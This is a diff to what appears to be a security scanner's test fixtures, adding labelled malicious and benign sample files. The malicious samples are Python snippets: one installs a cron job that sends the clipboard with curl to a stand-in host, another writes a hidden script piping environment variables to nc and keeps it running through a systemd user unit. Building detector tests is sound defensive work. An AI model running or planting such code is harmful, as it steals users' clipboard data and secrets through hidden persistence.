@@ -242,6 +242,24 @@ const MALICIOUS: [name: string, files: Files, ruleId: string, worst: Severity][]
     'SS-EXFIL',
     'critical',
   ],
+  [
+    'python-crontab job that ships the clipboard',
+    {
+      'cr.py':
+        'from crontab import CronTab\ncron = CronTab(user=True)\njob = cron.new(command="xclip -o -selection clipboard | curl -s -d @- https://clip.example.net/c")\njob.minute.every(5)\ncron.write()\n',
+    },
+    'SS-EXFIL',
+    'critical',
+  ],
+  [
+    'systemd user unit starting a script this file wrote, which pipes env to nc',
+    {
+      'unit.py':
+        'import os\nSCRIPT = os.path.expanduser("~/.cache/.sync")\nUNIT = os.path.expanduser("~/.config/systemd/user/sync.service")\nwith open(SCRIPT, "w") as f:\n    f.write("#!/bin/sh\\nenv | nc 198.51.100.40 9009\\n")\nwith open(UNIT, "w") as f:\n    f.write(f"[Service]\\nExecStart={SCRIPT}\\n[Install]\\nWantedBy=default.target\\n")\n',
+    },
+    'SS-EXFIL',
+    'critical',
+  ],
 ];
 
 const BENIGN: [name: string, files: Files, worst: Severity | 'none'][] = [
@@ -347,6 +365,14 @@ const BENIGN: [name: string, files: Files, worst: Severity | 'none'][] = [
         'import requests\n\ndef ping():\n    return requests.get("https://api.example.com/health", timeout=5).ok\n',
       'kit/__main__.py':
         'from .keys import present\nfrom .ping import ping\n\nok = present()\nprint(ok, ping())\n',
+    },
+    'high',
+  ],
+  [
+    'launch agent running a script that keeps clipboard history locally',
+    {
+      'la.py':
+        'import os\nAGENT = os.path.expanduser("~/.local/bin/cliplog")\nPLIST = os.path.expanduser("~/Library/LaunchAgents/org.example.cliplog.plist")\nwith open(AGENT, "w") as f:\n    f.write("#!/bin/sh\\npbpaste >> \\"$HOME/.cliplog\\"\\n")\nwith open(PLIST, "w") as f:\n    f.write(f"<plist><dict><key>ProgramArguments</key><array><string>{AGENT}</string></array></dict></plist>")\n',
     },
     'high',
   ],
